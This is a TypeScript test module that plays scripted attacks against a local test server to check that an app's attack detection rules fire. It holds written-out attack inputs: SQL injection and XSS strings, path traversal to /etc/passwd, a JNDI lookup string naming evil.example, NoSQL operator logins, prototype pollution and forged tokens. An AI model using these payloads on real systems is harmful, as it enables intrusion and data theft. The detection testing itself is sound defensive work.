import { once } from 'node:events'
import { connect } from 'node:net'
import { type AttackSeverity, type AttackType, api, type DetectionRule } from '@dodam/contract'
import { sql } from 'kysely'
import { makeAdmin } from './admins.ts'
import {
  forgedToken,
  otherBrowser,
  type Stage,
  swappedToken,
  inTurn as times,
  Visitor,
} from './attacks.ts'
import { shelve } from './pictures.ts'
import { reportedComments, writtenComments } from './reported-comments.ts'
import { addApp, firstStep } from './second-step.ts'

const minute = 60_000

export interface Attack {
  name: string
  type: AttackType
  /** The rule that must detect it, where several could. */
  rule?: DetectionRule
  /** The severity that it must have, where that is promised. */
  severity?: AttackSeverity
  play: () => Promise<void>
}

/** Typical attacks, each with attackers of its own. */
export function scriptedAttacks(stage: Stage): Attack[] {
  const { server } = stage
  let addresses = 0
  const newAddress = () => `203.0.${114 + Math.floor(addresses / 250)}.${(addresses++ % 250) + 1}`
  const visitor = (more?: { userAgent?: string; token?: string }) =>
    new Visitor(server(), newAddress(), more)
  let names = 0
  const newName = () => `attacked${++names}`
  const registered = async () => {
    const who = visitor()
    const username = newName()
    return { who, username, ...(await who.register(username)) }
  }
  /** A new admin, with a session that has proven the password. */
  const newAdmin = async () => {
    const one = await registered()
    await makeAdmin(server(), one)
    stage.move(minute)
    return one
  }
  const idsOf = async (count: number) => {
    const rows = await server()
      .db.selectFrom('users')
      .select('id')
      .where('username', 'like', 'someone%')
      .limit(count)
      .execute()
    return rows.map(({ id }) => id)
  }
  /** Ask the author of a new story for a chat; one who accepts ends the limit of open requests. */
  const askNewAuthor = async (
    who: Visitor,
    { listenerId, isAccepted }: { listenerId: number; isAccepted: boolean },
  ) => {
    const { db } = server()
    const author = await registered()
    const story = { content: '오늘 있었던 일을 이야기하고 싶어요.', categories: ['study'] }
    await author.who.send('POST', api.posts.publish.path, story)
    const { id: postId } = await db
      .selectFrom('posts')
      .select('id')
      .where('authorId', '=', author.id)
      .executeTakeFirstOrThrow()
    await who.send('POST', api.chatRequests.send.path, { postId, message: '안녕하세요' })
    if (!isAccepted) return
    const { id } = await db
      .selectFrom('chatRequests')
      .select('id')
      .where('listenerId', '=', listenerId)
      .executeTakeFirstOrThrow()
    await author.who.send('PUT', `/api/chat-requests/${id}/respond`, { status: 'accepted' })
  }
  const recover = (who: Visitor, username: string) =>
    who.send('POST', api.recovery.recover.path, {
      username,
      code: 'ABCD-EFGH-JKMN-PQRS-TUVW-XYZ2',
      newPassword: 'quiet river 7',
    })

  return [
    {
      name: 'three new accounts in one browser that take the welcome gift',
      type: 'session_anomaly',
      async play() {
        const { db } = server()
        const product = await shelve(db, { isWelcomeGift: true, count: 3 })
        const { who } = await registered()
        await who.send('POST', `/api/store/claim-free-product/${product}`)
        await times(2, async () => {
          await who.register(newName())
          await who.send('POST', `/api/store/claim-free-product/${product}`)
        })
        await server().app.jobs.runNow()
      },
    },
    {
      name: 'guessing at one account',
      type: 'brute_force',
      async play() {
        const { username } = await registered()
        const attacker = visitor({ userAgent: otherBrowser })
        await times(8, (at) => attacker.signIn(username, `guess number ${at}`))
      },
    },
    {
      name: 'guessing at one account, once in ten minutes, from ever other addresses',
      type: 'brute_force',
      async play() {
        const { username } = await registered()
        await times(14, async (at) => {
          stage.move(10 * minute)
          await visitor({ userAgent: `agent ${at}` }).signIn(username, `guess number ${at}`)
        })
      },
    },
    {
      name: 'stolen names and passwords from one address',
      type: 'credential_stuffing',
      async play() {
        const attacker = visitor({ userAgent: otherBrowser })
        await times(14, (at) => attacker.signIn(`leaked${at}person`, 'their old word 1'))
      },
    },
    {
      name: 'one password for many accounts that exist, once in ten minutes',
      type: 'credential_stuffing',
      async play() {
        const known: string[] = []
        await times(22, async () => void known.push((await registered()).username))
        const attacker = visitor({ userAgent: otherBrowser })
        for (const username of known) {
          stage.move(10 * minute)
          await attacker.signIn(username, 'summer word 2026')
        }
      },
    },
    {
      name: 'one password for many accounts, each from an address of its own',
      type: 'credential_stuffing',
      async play() {
        await times(36, async (at) => {
          stage.move(5 * minute)
          await visitor({ userAgent: `agent ${at}` }).signIn(
            `spread${at}person`,
            'summer word 2026',
          )
        })
      },
    },
    {
      name: 'trying which names are taken',
      type: 'enumeration',
      async play() {
        const { username } = await registered()
        const attacker = visitor()
        await times(34, () => attacker.register(username).catch(() => {}))
      },
    },
    {
      name: 'walking through stories by their ids',
      type: 'enumeration',
      async play() {
        const { who } = await registered()
        await times(40, (at) => who.get(`/api/posts/${900_000 + at}`))
      },
    },
    {
      name: 'walking through rooms of others by their ids',
      type: 'idor_probe',
      async play() {
        const { who } = await registered()
        await times(14, (at) => who.get(`/api/chat-rooms/${at + 1}/messages`))
      },
    },
    {
      name: 'the same patiently, one in half an hour',
      type: 'idor_probe',
      async play() {
        const { who } = await registered()
        await times(28, async (at) => {
          stage.move(30 * minute)
          await who.send('PUT', `/api/chat-messages/${at + 1}/read`)
        })
      },
    },
    {
      name: 'the same with accounts that change',
      type: 'idor_probe',
      async play() {
        const address = newAddress()
        const accounts = await Promise.all(Array.from({ length: 6 }, () => registered()))
        await times(30, async (at) => {
          const token = accounts[at % accounts.length]?.token
          await new Visitor(server(), address, { ...(token && { token }) }).get(
            `/api/chat-rooms/${at + 1}`,
          )
        })
      },
    },
    {
      name: 'calls of admins by a member',
      type: 'privilege_escalation',
      async play() {
        const { who } = await registered()
        for (const path of ['users', 'audit', 'reports', 'analytics'])
          await who.get(`/api/admin/${path}`)
      },
    },
    {
      name: 'giving oneself the right of an admin',
      type: 'privilege_escalation',
      async play() {
        const { who } = await registered()
        await who.send('PUT', '/api/user/profile', { nickname: '조용한 새', isAdmin: true })
      },
    },
    {
      name: 'a token without a signature',
      type: 'token_forgery',
      play: async () =>
        void (await visitor({ token: forgedToken('none') }).get('/api/auth/verify')),
    },
    {
      name: 'tokens signed with guessed secrets',
      type: 'token_forgery',
      async play() {
        const attacker = visitor()
        await times(4, async () => {
          attacker.token = forgedToken('HS256')
          await attacker.get('/api/auth/verify')
        })
      },
    },
    {
      name: 'a token of one’s own with somebody else’s id, over the socket',
      type: 'token_forgery',
      async play() {
        const { who, token } = await registered()
        await times(4, () => who.connect({}, swappedToken(token)))
      },
    },
    {
      name: 'a token whose session has ended, on another device',
      type: 'token_reuse',
      async play() {
        const { who, token } = await registered()
        await server().settle()
        await who.send('POST', '/api/auth/logout')
        await visitor({ userAgent: otherBrowser, token }).get('/api/auth/verify')
      },
    },
    {
      name: 'a stolen token beside its owner',
      type: 'session_anomaly',
      async play() {
        const { who, token } = await registered()
        await server().settle()
        await visitor({ userAgent: otherBrowser, token }).get('/api/notifications')
        await who.get('/api/notifications')
      },
    },
    {
      name: 'SQL in ids and queries',
      type: 'sql_injection',
      async play() {
        const attacker = visitor()
        await attacker.get("/api/posts/1'%20OR%20'1'='1")
        await attacker.get(
          '/api/posts?category=sleep%27%20UNION%20SELECT%20username%20FROM%20users--',
        )
        await attacker.get('/api/posts?before=1;%20DROP%20TABLE%20users')
        await attacker.signIn("admin' OR 1=1 --", 'any word at all')
      },
    },
    {
      name: 'scripts in addresses',
      type: 'xss',
      async play() {
        const attacker = visitor()
        await times(4, (at) =>
          attacker.get(`/api/posts?lang=%3Cscript%3Ealert(${at})%3C/script%3E`),
        )
      },
    },
    {
      name: 'paths of other software',
      type: 'path_scan',
      async play() {
        const attacker = visitor({ userAgent: 'Nikto' })
        for (const path of ['.env', '.git/config', 'wp-login.php', 'phpmyadmin/', 'backup.sql'])
          await attacker.get(`/${path}`)
      },
    },
    {
      name: 'out of the folder of the web app',
      type: 'path_scan',
      async play() {
        const attacker = visitor()
        await times(4, (at) => attacker.raw(`/assets/${'../'.repeat(at + 1)}etc/passwd`))
      },
    },
    {
      name: 'calls that there are not',
      type: 'path_scan',
      async play() {
        const attacker = visitor({ userAgent: 'feroxbuster' })
        await times(30, (at) => attacker.get(`/api/v1/guess${at}`))
      },
    },
    {
      name: 'bodies that are no JSON',
      type: 'malformed_request',
      async play() {
        const { who } = await registered()
        await times(14, () => who.send('POST', '/api/posts', '{"content":'))
      },
    },
    {
      name: 'bodies that are far too large',
      type: 'malformed_request',
      async play() {
        const { who } = await registered()
        await times(4, () => who.send('POST', '/api/posts', { content: 'x'.repeat(100_000) }))
      },
    },
    {
      name: 'bodies as deep as they go',
      type: 'malformed_request',
      async play() {
        const { who } = await registered()
        await times(12, () =>
          who.send('POST', '/api/posts', `${'['.repeat(5_000)}${']'.repeat(5_000)}`),
        )
      },
    },
    {
      name: 'a body that would reach every object',
      type: 'malformed_request',
      async play() {
        const { who } = await registered()
        await who.send('PUT', '/api/user/profile', '{"__proto__":{"isAdmin":true}}')
      },
    },
    {
      name: 'more requests than anybody is let make',
      type: 'rate_limit',
      async play() {
        const attacker = visitor()
        await times(6, () =>
          Promise.all(Array.from({ length: 60 }, () => attacker.get('/api/categories/stats'))),
        )
      },
    },
    {
      name: 'events without end on a socket',
      type: 'socket_flood',
      async play() {
        const { who } = await registered()
        await who.flood('post:watch', { postId: 'x' }, 200)
      },
    },
    {
      name: 'a page of somebody else that connects',
      type: 'foreign_origin',
      async play() {
        const { who } = await registered()
        await times(3, () => who.connect({ origin: 'https://dodam.evil.example' }))
      },
    },
    {
      name: 'an admin’s password, in a session of theirs',
      type: 'brute_force',
      async play() {
        const { who, id } = await registered()
        await makeAdmin(server(), { id })
        stage.move(minute)
        await times(4, (at) =>
          who.send('POST', '/api/admin/reauth', { password: `guess nr ${at}` }),
        )
      },
    },
    {
      name: 'a password that is right after many wrong ones',
      type: 'brute_force',
      rule: 'guessed_password',
      async play() {
        const { username } = await registered()
        const attacker = visitor({ userAgent: otherBrowser })
        await times(5, (at) => attacker.signIn(username, `guess number ${at}`))
        // Count the last guess before the clock moves by twenty minutes at once.
        await server().settle()
        stage.move(20 * minute)
        await stage.rest({ ip: attacker.address })
        await attacker.signIn(username)
      },
    },
    {
      name: 'a password that its owner has forgotten, told as low',
      type: 'brute_force',
      rule: 'forgotten_password',
      async play() {
        const { who, username } = await registered()
        await times(9, () => who.signIn(username, 'the one of last year'))
      },
    },
    {
      name: 'one password for forty accounts, eight from each of five addresses',
      type: 'credential_stuffing',
      rule: 'password_spraying',
      async play() {
        for (const from of ['a', 'b', 'c', 'd', 'e']) {
          const attacker = visitor({ userAgent: otherBrowser })
          await times(8, (at) => attacker.signIn(`few${from}${at}`, 'summer word 2026'))
        }
      },
    },
    {
      name: 'stolen passwords behind sign-ins to accounts of one’s own',
      type: 'credential_stuffing',
      rule: 'password_spraying',
      async play() {
        const attacker = visitor({ userAgent: otherBrowser })
        const own = Array.from({ length: 12 }, newName)
        for (const username of own) await new Visitor(server(), attacker.address).register(username)
        await times(34, async (at) => {
          stage.move(minute)
          if (at % 3 === 0) await attacker.signIn(own[at / 3] ?? '')
          await attacker.signIn(`stolen${at}name`, 'their old word 1')
        })
      },
    },
    {
      name: 'recovery codes of one account',
      type: 'brute_force',
      rule: 'recovery_guessing',
      async play() {
        const { username } = await registered()
        const attacker = visitor()
        await times(8, async (at) => {
          if (at === 4) await stage.rest({ ip: attacker.address })
          await recover(attacker, username)
          stage.move(10 * minute)
        })
      },
    },
    {
      name: 'recovery codes of many accounts',
      type: 'credential_stuffing',
      async play() {
        const attacker = visitor()
        await times(14, (at) => recover(attacker, `lost${at}person`))
      },
    },
    {
      name: 'codes of the second step, by somebody with an admin’s password',
      type: 'brute_force',
      rule: 'factor_guessing',
      async play() {
        const admin = await server().member()
        await makeAdmin(server(), admin)
        stage.move(minute)
        await addApp(admin, stage.now)
        const attacker = visitor()
        const headers = { 'x-forwarded-for': attacker.address }
        await times(7, async () => {
          const { challenge } = await firstStep(server(), admin, headers)
          await attacker.send('POST', api.secondFactor.signIn.path, { challenge, code: '000000' })
          stage.move(5 * minute)
        })
      },
    },
    {
      name: 'the password of a device that was left open',
      type: 'brute_force',
      rule: 'own_password_guessing',
      async play() {
        const { who, id } = await registered()
        await times(10, async (at) => {
          if (at === 5) stage.move(16 * minute)
          if (at === 5) await stage.rest({ userId: id })
          const body = { currentPassword: `guess nr ${at}`, newPassword: 'quiet river 7' }
          await who.send('PUT', '/api/user/password', body)
        })
      },
    },
    {
      name: 'names that are taken, as slowly as one may',
      type: 'enumeration',
      rule: 'names_tried',
      async play() {
        const { username } = await registered()
        const attacker = visitor()
        await times(62, async (at) => {
          stage.move(2 * minute)
          if (at === 31) await stage.rest({ ip: attacker.address })
          await attacker.register(username).catch(() => {})
        })
      },
    },
    {
      name: 'walking through people by their ids, once in five minutes',
      type: 'enumeration',
      rule: 'missing_things',
      async play() {
        const { who, id } = await registered()
        await times(105, async (at) => {
          stage.move(5 * minute)
          if (at % 12 === 0) await stage.rest({ userId: id })
          await who.get(`/api/user/${900_000 + at}`)
        })
      },
    },
    {
      name: 'people by their ids, in the bodies of writes',
      type: 'enumeration',
      rule: 'missing_things',
      async play() {
        const { who } = await registered()
        await times(34, (at) => who.send('POST', '/api/user/block', { targetUserId: 900_000 + at }))
      },
    },
    {
      name: 'stories by their ids, over the socket',
      type: 'enumeration',
      rule: 'missing_things',
      async play() {
        const { who, id } = await registered()
        await times(3, async (round) => {
          await stage.rest({ userId: id })
          stage.move(minute)
          const ids = Array.from({ length: 15 }, (_, at) => 900_000 + round * 15 + at)
          await who.emitEach(
            'post:watch',
            ids.map((postId) => ({ postId })),
          )
        })
      },
    },
    {
      name: 'reading the profiles of everybody',
      type: 'enumeration',
      rule: 'scraping',
      async play() {
        const { who } = await registered()
        for (const id of await idsOf(230)) await who.get(`/api/user/${id}`)
      },
    },
    {
      name: 'the same for a whole day',
      type: 'enumeration',
      rule: 'scraping',
      async play() {
        const { who, id } = await registered()
        for (const [at, other] of (await idsOf(1_020)).entries()) {
          if (at % 10 === 0) stage.move(5 * minute)
          if (at === 500) await stage.rest({ userId: id })
          await who.get(`/api/user/${other}`)
        }
      },
    },
    {
      name: 'the same by accounts in turn',
      type: 'enumeration',
      rule: 'scraping',
      async play() {
        const { address } = visitor()
        const ids = await idsOf(270)
        await times(6, async (at) => {
          const who = new Visitor(server(), address)
          await who.register(newName())
          for (const id of ids.slice(at * 45, at * 45 + 45)) await who.get(`/api/user/${id}`)
        })
      },
    },
    {
      name: 'a stolen token with its owner’s browser, in turn with its owner',
      type: 'session_anomaly',
      rule: 'session_elsewhere',
      async play() {
        const { token } = await registered()
        await times(12, (at) =>
          new Visitor(server(), at % 2 === 0 ? '45.10.0.1' : '62.20.0.1', { token }).get(
            '/api/notifications',
          ),
        )
      },
    },
    {
      name: 'an admin in a browser and a network where they never were',
      type: 'session_anomaly',
      rule: 'admin_elsewhere',
      async play() {
        const { username } = await newAdmin()
        await server().settle()
        await visitor({ userAgent: otherBrowser }).signIn(username)
      },
    },
    {
      name: 'an admin who deletes one account after the other',
      type: 'session_anomaly',
      rule: 'admin_deletions',
      async play() {
        const gone: number[] = []
        await times(5, async () => void gone.push((await registered()).id))
        const [first, second] = [await newAdmin(), await newAdmin()]
        for (const id of gone)
          for (const { who } of [first, second])
            await who.send('DELETE', `/api/admin/users/${id}`, {})
      },
    },
    {
      name: 'an admin who deletes one comment after the other',
      type: 'session_anomaly',
      rule: 'admin_deletions',
      async play() {
        const writer = await registered()
        const comments = await writtenComments(server().db, [[writer.who, writer.id]])
        const { who } = await newAdmin()
        for (const { id } of comments.slice(0, 5)) await who.send('DELETE', `/api/comments/${id}`)
      },
    },
    {
      name: 'an admin who decides against all that was reported',
      type: 'session_anomaly',
      rule: 'admin_deletions',
      async play() {
        const writers = [await registered(), await registered()]
        const cases = await reportedComments(
          server().db,
          writers.map(({ who, id }) => [who, id]),
        )
        const { who } = await newAdmin()
        for (const id of cases)
          await who.send('POST', `/api/admin/reports/${id}/decide`, { decision: 'delete_content' })
      },
    },
    {
      name: 'an emergency recovery that nobody asked for',
      type: 'session_anomaly',
      rule: 'admin_restore',
      async play() {
        const { who } = await newAdmin()
        await who.send('POST', '/api/admin/system/emergency-recovery', {})
      },
    },
    {
      name: 'a change inside the audit log',
      type: 'privilege_escalation',
      rule: 'audit_broken',
      severity: 'critical',
      async play() {
        const { db } = server()
        const write = async (target: string) => {
          await sql`alter table audit disable trigger audit_append_only`.execute(db)
          await sql`update audit set target = ${target}
            where id = (select min(id) from audit)`.execute(db)
          await sql`alter table audit enable trigger audit_append_only`.execute(db)
        }
        const entry = await db
          .selectFrom('audit')
          .select('target')
          .orderBy('id')
          .limit(1)
          .executeTakeFirstOrThrow()
        await write('nobody')
        await server().app.jobs.runNow()
        await write(entry.target)
      },
    },
    {
      name: 'calls of admins outside their area, by a member',
      type: 'privilege_escalation',
      rule: 'admin_calls',
      async play() {
        const { who } = await registered()
        for (const act of ['approve', 'reject'])
          await times(2, (at) => who.send('PUT', `/api/verification-applications/${at}/${act}`, {}))
      },
    },
    {
      name: 'calls of admins with a token of nothing, once in an hour',
      type: 'privilege_escalation',
      rule: 'admin_calls',
      async play() {
        const attacker = visitor({ token: 'a.b' })
        for (const path of ['users', 'audit', 'reports', 'analytics']) {
          stage.move(60 * minute)
          await attacker.get(`/api/admin/${path}`)
        }
      },
    },
    {
      name: 'SQL, once in two hours',
      type: 'sql_injection',
      rule: 'sql_probe',
      async play() {
        const attacker = visitor()
        await times(4, async (at) => {
          stage.move(120 * minute)
          await attacker.get(`/api/posts?before=${at}%20OR%201%3D1`)
        })
      },
    },
    {
      name: 'SQL, once from each of many addresses',
      type: 'sql_injection',
      rule: 'sql_probe',
      play: () => times(12, () => visitor().get("/api/posts?before=1'%20OR%20'1'='1")),
    },
    {
      name: 'SQL in the words of a search',
      type: 'sql_injection',
      rule: 'sql_probe',
      async play() {
        const { who } = await registered()
        await times(10, (at) =>
          who.get(
            `/api/posts?search=${encodeURIComponent(`x' UNION SELECT ${at}, password FROM users--`)}`,
          ),
        )
      },
    },
    {
      name: 'scripts in the words of a search',
      type: 'xss',
      rule: 'script_probe',
      async play() {
        const attacker = visitor()
        await times(10, (at) =>
          attacker.get(
            `/api/posts?search=${encodeURIComponent(`<img src=x onerror=alert(${at})>`)}`,
          ),
        )
      },
    },
    {
      name: 'a foreign script on our pages, as browsers report it',
      type: 'xss',
      rule: 'csp_violation',
      play: () =>
        times(6, () =>
          visitor().send(
            'POST',
            api.security.reportViolation.path,
            {
              'csp-report': {
                'document-uri': 'https://dodam.example/',
                'blocked-uri': 'https://evil.example/steal.js?x=1',
                'effective-directive': 'script-src-elem',
              },
            },
            { 'content-type': 'application/csp-report' },
          ),
        ),
    },
    {
      name: 'a browser’s name that is a command',
      type: 'xss',
      rule: 'script_probe',
      async play() {
        const attacker = visitor({ userAgent: '${jndi:ldap://evil.example/a}' })
        await times(4, () => attacker.get('/api/posts'))
      },
    },
    {
      name: 'headers that mean another path',
      type: 'path_scan',
      rule: 'path_probe',
      async play() {
        const attacker = visitor()
        await times(4, () => attacker.get('/api/posts', { 'x-original-url': '/api/admin/users' }))
      },
    },
    {
      name: 'operators instead of a name and a password',
      type: 'malformed_request',
      rule: 'poisoned_body',
      play: async () =>
        void (await visitor().send('POST', api.accounts.login.path, {
          username: { $ne: null },
          password: { $ne: null },
        })),
    },
    {
      name: 'forms that are wrong on purpose',
      type: 'malformed_request',
      rule: 'broken_requests',
      async play() {
        const { who } = await registered()
        await times(64, () => who.send('POST', '/api/posts', { content: '', categories: [] }))
      },
    },
    {
      name: 'files that are no pictures, by an admin',
      type: 'malformed_request',
      rule: 'refused_uploads',
      severity: 'high',
      async play() {
        const { who } = await newAdmin()
        const picture = `data:image/svg+xml;base64,${Buffer.from('<svg/>').toString('base64')}`
        const draft = { name: '편의점 쿠폰', category: 'voucher', barcodeImages: [picture] }
        await times(4, () => who.send('POST', '/api/admin/products', draft))
      },
    },
    {
      name: 'bytes that are no HTTP',
      type: 'malformed_request',
      rule: 'broken_requests',
      async play() {
        const { port } = new URL(server().url)
        await times(12, async () => {
          const socket = connect(Number(port), '127.0.0.1')
          socket.write('this is no request\r\n\r\n')
          socket.resume()
          await once(socket, 'close')
        })
      },
    },
    {
      name: 'a flood of requests',
      type: 'rate_limit',
      rule: 'too_fast',
      async play() {
        const attacker = visitor()
        await times(15, () =>
          Promise.all(Array.from({ length: 60 }, () => attacker.get('/api/about'))),
        )
      },
    },
    {
      name: 'chat requests to as many as an hour allows',
      type: 'rate_limit',
      rule: 'mass_contact',
      async play() {
        const who = visitor()
        const { id: listenerId } = await who.register(newName(), 'listener')
        await times(10, (at) => askNewAuthor(who, { listenerId, isAccepted: at === 0 }))
      },
    },
    {
      name: 'chat requests about stories that may exist',
      type: 'enumeration',
      rule: 'missing_things',
      async play() {
        const who = visitor()
        const { id: userId } = await who.register(newName(), 'listener')
        await times(36, async (at) => {
          if (at % 10 === 9) await stage.rest({ userId })
          const body = { postId: 900_000 + at, message: '안녕하세요' }
          await who.send('POST', api.chatRequests.send.path, body)
        })
      },
    },
    {
      name: 'reports against one after the other',
      type: 'rate_limit',
      rule: 'mass_reports',
      async play() {
        const { who } = await registered()
        for (const targetId of await idsOf(30)) {
          const about = { targetType: 'user', targetId, reason: 'hurtful' }
          await who.send('POST', '/api/reports', about)
        }
      },
    },
    {
      name: 'an export without end',
      type: 'rate_limit',
      rule: 'insistence',
      async play() {
        const { who } = await registered()
        await times(36, () => who.get(api.settings.exportMine.path))
      },
    },
    {
      name: 'a frame that is far too large',
      type: 'socket_flood',
      rule: 'socket_limits',
      async play() {
        const { who } = await registered()
        await who.flood('post:watch', 'x'.repeat(40_000), 1)
      },
    },
    {
      name: 'frames that are no events',
      type: 'socket_flood',
      rule: 'socket_limits',
      async play() {
        const { who } = await registered()
        await who.sendsNonsense()
      },
    },
    {
      name: 'connections without end',
      type: 'socket_flood',
      rule: 'socket_limits',
      async play() {
        const { who } = await registered()
        await times(34, () => who.connect())
      },
    },
    {
      name: 'the public password of an account of the demonstration',
      type: 'brute_force',
      rule: 'test_account_sign_in',
      severity: 'critical',
      async play() {
        const attacker = visitor()
        await times(4, () => attacker.signIn('testuser1', 'password123'))
      },
    },
  ]
}
